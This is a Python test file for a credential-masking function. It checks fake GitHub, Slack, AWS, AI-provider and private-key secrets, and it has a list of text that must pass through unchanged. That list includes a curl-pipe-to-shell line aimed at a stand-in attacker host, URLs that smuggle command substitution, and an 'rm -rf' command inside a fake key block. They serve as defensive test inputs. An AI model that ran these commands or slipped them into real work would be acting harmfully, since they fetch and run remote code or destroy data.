import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bridge.core.masking import FORMS, mask

# Put together here, so that no scanner takes this file for a leak.
B20 = "a1B2c3D4e5F6g7H8i9J0"
B40 = B20 * 2
KEY_LINES = f"{B40}{B20}\n{B40}{B20}\n{B20}=="


def _key(kind: str, *, body: str = KEY_LINES, end: bool = True) -> str:
    return f"-----BEGIN {kind}-----\n{body}\n" + (f"-----END {kind}-----" if end else "")


SECRETS = [
    *(
        (f"GitHub {p}", f"x {p}{B40} y", f"x {p}[masked] y")
        for p in ("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_")
    ),
    *(
        (f"GitLab {p}", f"{p}{B20}", f"{p}[masked]")
        for p in (
            "glpat-",
            "gldt-",
            "glrt-",
            "glcbt-",
            "glptt-",
            "glft-",
            "glsoat-",
            "glimt-",
            "glagent-",
            "gloas-",
            "GR1348941",
        )
    ),
    ("GitLab, routable", f"glpat-{B20}.01.{B20}", "glpat-[masked]"),
    *((f"Slack {p}", f"{p}12345-{B20}", f"{p}[masked]") for p in ("xoxb-", "xoxp-", "xoxa-", "xapp-", "xoxe.xoxp-")),
    ("Slack webhook", f"https://hooks.slack.com/services/T0/B0/{B20}", "https://hooks.slack.com/services/[masked]"),
    ("AWS access key id", "AKIA" + "ABCDEFGH234567AB", "AKIA[masked]"),
    ("AWS secret after its name", f"aws_secret_access_key = {B40}", "aws_secret_access_key = [masked]"),
    ("Google API key", "AIza" + B40[:35], "AIza[masked]"),
    ("Google OAuth", f"ya29.{B40}", "ya29.[masked]"),
    ("Google OAuth refresh", f"1//0{B40}", "1//0[masked]"),
    ("Google OAuth client", f"GOCSPX-{B20}", "GOCSPX-[masked]"),
    ("Anthropic", f"sk-ant-api03-{B40}-x_AA", "sk-ant-api03-[masked]"),
    ("OpenAI", f"sk-{B40}", "sk-[masked]"),
    ("OpenAI project", f"sk-proj-{B40}_x-", "sk-proj-[masked]"),
    ("OpenRouter", f"sk-or-v1-{B40}", "sk-or-v1-[masked]"),
    ("Stripe", f"sk_live_{B20}", "sk_live_[masked]"),
    ("Stripe restricted", f"rk_test_{B20}", "rk_test_[masked]"),
    ("Stripe webhook", f"whsec_{B20}", "whsec_[masked]"),
    ("npm", f"npm_{B40[:36]}", "npm_[masked]"),
    ("Python index", f"pypi-AgE{B40}", "pypi-AgE[masked]"),
    ("Hugging Face", f"hf_{B40}", "hf_[masked]"),
    ("Synapse", f"syt_Ym90_{B20}_1a2b3c", "syt_[masked]"),
    ("Matrix authentication service", f"mct_{B20}_1a2b3c mcr_{B20}_1a2b3c", "mct_[masked] mcr_[masked]"),
    ("JWT", f"eyJ{B20}.eyJ{B20}.{B20}-_", "eyJ[masked]"),
    ("Bearer", f"Bearer {B20}", "Bearer [masked]"),
    ("Bearer header, short", "curl -H 'Authorization: Bearer abcd' x", "curl -H 'Authorization: Bearer [masked]' x"),
    ("Authorization without a scheme", '"authorization": "abcd1"', '"authorization": "[masked]"'),
    ("Basic", "Basic dXNlcjpwYXNzdw==", "Basic [masked]"),
    ("Basic header", "Authorization: Basic dXNlcjpwYXNz", "Authorization: Basic [masked]"),
    ("curl -u", "curl -u me:hunter x", "curl -u me:[masked] x"),
    ("password in a URL", "psql postgres://app:hunter2pw@db.ex.org/x", "psql postgres://app:[masked]@db.ex.org/x"),
    ("at sign in a URL's password", "postgres://app:p@ss@db/x", "postgres://app:[masked]@db/x"),
    ("no user in a URL", "redis://:hunter@h:6379/0", "redis://:[masked]@h:6379/0"),
    ("token in a URL", f"git clone https://{B20}@git.example/x", "git clone https://[masked]@git.example/x"),
    ("named", "PASSWORD=hunter2 npm test", "PASSWORD=[masked] npm test"),
    ("named in JSON", '{"api_key": "k3y-value"}', '{"api_key": "[masked]"}'),
    *(
        (kind, _key(kind), f"-----BEGIN {kind}-----\n[masked]\n-----END {kind}-----")
        for kind in ("PRIVATE KEY", "RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "EC PRIVATE KEY", "ENCRYPTED PRIVATE KEY")
    ),
    (
        "key with headers",
        _key("RSA PRIVATE KEY", body=f"Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n{KEY_LINES}"),
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n[masked]\n-----END RSA PRIVATE KEY-----",
    ),
    (
        "PGP",
        _key("PGP PRIVATE KEY BLOCK", body=f"\n{KEY_LINES}\n=a1b2"),
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n[masked]\n-----END PGP PRIVATE KEY BLOCK-----",
    ),
    (
        "key in a diff",
        "+" + _key("PRIVATE KEY").replace("\n", "\n+"),
        "+-----BEGIN PRIVATE KEY-----\n+[masked]\n+-----END PRIVATE KEY-----",
    ),
    (
        "key taken out in a diff",
        "-" + _key("PRIVATE KEY").replace("\n", "\n-"),
        "------BEGIN PRIVATE KEY-----\n-[masked]\n------END PRIVATE KEY-----",
    ),
    (
        "key in YAML",
        _key("PRIVATE KEY").replace("\n", "\n    "),
        "-----BEGIN PRIVATE KEY-----\n    [masked]\n    -----END PRIVATE KEY-----",
    ),
    (
        "key in JSON",
        _key("PRIVATE KEY").replace("\n", "\\n"),
        "-----BEGIN PRIVATE KEY-----\\n[masked]-----END PRIVATE KEY-----",
    ),
    ("key without its end", _key("PRIVATE KEY", body=B40, end=False) + "ls", "-----BEGIN PRIVATE KEY-----\n[masked]ls"),
]

HARMLESS = [
    "git checkout 9fceb02d0ae598e95dc970b74767f19372d61af8",
    "docker pull images.example/x/y@sha256:3b1e5f0a9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f",
    "rm -rf 123e4567-e89b-12d3-a456-426614174000",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
    "/usr/share/icons/hicolor/48x48/apps/org.gnome.Terminal.png",
    "--- a/src/auth/token.py\n+++ b/src/auth/token.py\n@@ -1,2 +1,2 @@\n-def token(self) -> str:\n+def token(self, key: str) -> str:",
    "sort -u file:x && docker run -u 1000:1000 --rm alpine id",
    "curl http://localhost:3000/@scope/pkg https://example.org:8443/a@b",
    "git clone git@github.com:x/y.git && git push ssh://git@host:22/x.git",
    "git clone https://x-access-token:${TOKEN}@git.example/x",
    "Please enter your password. The token is valid for one hour; tokens: 4096",
    "export TOKEN=$TOKEN; export TOKENIZERS_PARALLELISM=true; export PATH=/bin:$PATH",
    'gh api --header "Authorization: Bearer $GITHUB_TOKEN" --token "$GITHUB_TOKEN"',
    'curl -H "Authorization: token ${T}" -H "Authorization: required"',
    "Bearer authentication is a kind of HTTP authentication, like Basic authentication",
    "Bearer internationalization",
    ".sk-fading-circle-wrapper-of-mine { } task-force-alpha-bravo-charlie",
    "import { sk_live_mode } from 'x'; npm_config_loglevel=warn; ghp_enabled",
    "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
    "-----BEGIN PRIVATE KEY-----\nrm -rf ~/everything\n-----END PRIVATE KEY-----",
    "eyJust.eyJoking",
    "xoxo-gossip-girl-said-so hf_hub_download",
    "npm i @types/node@20 && pip install 'x>=1.0'",
    "TOKEN=$(curl evil.example|sh)",
    "https://user:$(id)@host https://user:`id`@host",
]


@pytest.mark.parametrize(("raw", "shown"), [row[1:] for row in SECRETS], ids=[row[0] for row in SECRETS])
def test_a_secret_is_masked_and_the_rest_stays(raw: str, shown: str) -> None:
    masked, secrets = mask(raw)
    assert shown == masked
    assert secrets == shown.count("[masked]")


@pytest.mark.parametrize("raw", [row[1] for row in SECRETS])
def test_masking_twice_changes_nothing_more(raw: str) -> None:
    masked, _ = mask(raw)
    assert (masked, 0) == mask(masked)


@pytest.mark.parametrize("text", HARMLESS)
def test_a_text_without_secrets_stays_untouched(text: str) -> None:
    assert (text, 0) == mask(text)


@pytest.mark.parametrize("hidden", ["\u200b", "\u00ad", "\u202e\u2066", "\ufe0f", "\x00", "\x1c"])
def test_hidden_characters_do_not_protect_a_secret(hidden: str) -> None:
    raw = f"{hidden}a {hidden}gh{hidden}p_{B20}{hidden}{B20}{hidden} z{hidden}"
    shown = f"{hidden}a {hidden}gh{hidden}p_[masked]{hidden} z{hidden}"
    assert (shown, 1) == mask(raw)


def test_hidden_white_space_still_parts_words() -> None:
    assert mask("PASSWORD=hunter2\u00a0x\u200b") == ("PASSWORD=[masked]\u00a0x\u200b", 1)


def test_a_secret_in_a_secret_counts_once() -> None:
    assert mask(f"Authorization: Bearer ghp_{B40}") == ("Authorization: Bearer [masked]", 1)


def test_every_form_is_tried_by_a_row() -> None:
    tried = [form.name for form in FORMS if not any(start in raw for _, raw, _ in SECRETS for start in form.starts)]
    assert tried == []


@given(st.text(st.sampled_from("ab1 =:@/\"'$-_\n\u200b")))
def test_what_is_not_masked_stays_as_it_was(text: str) -> None:
    masked, secrets = mask(text)
    assert (text == masked) == (secrets == 0)


ADVERSARIAL = [
    *(
        "a",
        " ",
        "-",
        "a.",
        "@",
        "://",
        "://a:",
        "://a:b@",
        "ghp_",
        "eyJ",
        "eyJaaaaa.",
        "sk-",
        "sk-ant-",
        "\u200b",
        "g\u200b",
    ),
    *(
        "token ",
        "token=",
        "token=$",
        'password="',
        "'token='x ",
        "TOKEN=./",
        "--token ",
        "curl -u a:b ",
        "curl -u ",
        "api_key-",
    ),
    *(
        "Bearer ",
        "Bearer a",
        "Authorization: ",
        "-----BEGIN PRIVATE KEY-----\n",
        "PRIVATE KEY-----A",
        "PRIVATE KEY-----\na: b\n",
    ),
]


@pytest.mark.parametrize("unit", ADVERSARIAL)
def test_time_grows_with_the_length_and_not_faster(unit: str) -> None:
    text = unit * (400_000 // len(unit))
    start = time.process_time()
    mask(text)
    assert time.process_time() - start < 20  # a few at most; a quadratic pattern takes minutes
